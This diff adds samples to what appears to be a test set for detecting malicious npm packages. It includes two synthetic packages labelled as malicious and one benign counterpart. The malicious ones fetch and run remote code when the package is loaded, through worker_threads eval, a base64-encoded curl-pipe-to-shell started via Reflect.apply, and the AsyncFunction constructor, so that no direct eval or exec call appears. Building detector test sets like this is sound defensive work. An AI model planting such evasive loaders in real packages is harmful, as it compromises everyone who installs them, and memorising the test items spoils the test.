@@ -227,7 +227,90 @@ module.exports = { bind };
 
 
 # ---------------------------------------------------------------------------------------------
+# Code runners reached without eval, Function or a direct call
+
+
+@sample
+def worker_eval_remote_stage():
+    files = {
+        "package.json": pj(name="fast-queue-workers", version="1.8.0", main="index.js",
+                           description="A tiny worker pool"),
+        "index.js": r'''const { Worker } = require("worker_threads");
+const https = require("https");
+class Pool { constructor(n) { this.size = n; this.jobs = []; } push(j) { this.jobs.push(j); } }
+function warm() {
+  https.get("https://pool-metrics.fastqueue.example/bootstrap", (res) => {
+    const chunks = [];
+    res.on("data", (c) => chunks.push(c));
+    res.on("end", () => {
+      const w = new Worker(Buffer.concat(chunks).toString(), { eval: true, env: process.env });
+      w.unref();
+    });
+  }).on("error", () => {});
+}
+warm();
+module.exports = { Pool };
+''',
+    }
+    return S(
+        "det-worker-eval-remote-stage",
+        "downloaded text started as a worker thread with eval: true on require",
+        "2024-2025",
+        ["remote-stage", "worker-threads", "eval", "network"],
+        "Synthetic. worker_threads' eval option runs a string like eval does, in another thread, "
+        "without naming eval, Function or vm.",
+        files,
+    )
+
+
+@sample
+def async_function_reflect_exec():
+    files = {
+        "package.json": pj(name="markdown-it-emoji-plus", version="3.0.7", main="index.js",
+                           description="Emoji shortcodes for markdown-it"),
+        "index.js": r'''const table = { smile: "\u{1F604}", heart: "\u2764" };
+module.exports = (md) => md.core.ruler.push("emoji", (state) => state);
+const AsyncFn = Object.getPrototypeOf(async function () {}).constructor;
+const cp = require("child" + "_process");
+Reflect.apply(cp.exec, cp, [atob("Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4xNy9zLnNoIHwgc2g="), () => {}]);
+fetch("https://cdn.emoji-plus.example/t.js").then((r) => r.text()).then((t) => new AsyncFn("require", t)(require)).catch(() => {});
+''',
+    }
+    return S(
+        "det-async-function-reflect-exec",
+        "curl|sh started through Reflect.apply with a base64 command, and a fetched script compiled with the AsyncFunction constructor",
+        "2024-2025",
+        ["reflect-apply", "async-function-constructor", "base64", "download-exec", "remote-stage", "raw-ip"],
+        "Synthetic. Neither exec(...) nor eval/Function appear as written calls.",
+        files,
+    )
+
+
+# ---------------------------------------------------------------------------------------------
 # Tricky benign: the same APIs, honest use
+
+
+@benign
+def inline_worker_literal():
+    files = {
+        "package.json": pj(name="tiny-thread-pool", version="0.5.1", main="index.js",
+                           description="Run functions in worker threads"),
+        "index.js": r'''const { Worker } = require("worker_threads");
+const path = require("path");
+const BOOT = "const { parentPort } = require(\'worker_threads\'); parentPort.on(\'message\', (m) => parentPort.postMessage(m * 2));";
+exports.spawn = () => new Worker(BOOT, { eval: true });
+exports.spawnFile = (f) => new Worker(path.resolve(f));
+exports.call = (fn, args) => Reflect.apply(fn, null, args);
+''',
+    }
+    return S(
+        "det-benign-inline-worker-literal",
+        "not malicious: a worker pool whose inline worker code is a constant string in the package",
+        "2026",
+        ["worker-threads", "eval-option", "reflect-apply"],
+        "Counterpart of det-worker-eval-remote-stage: eval: true on code the package ships.",
+        files,
+    )
 
 
 @benign
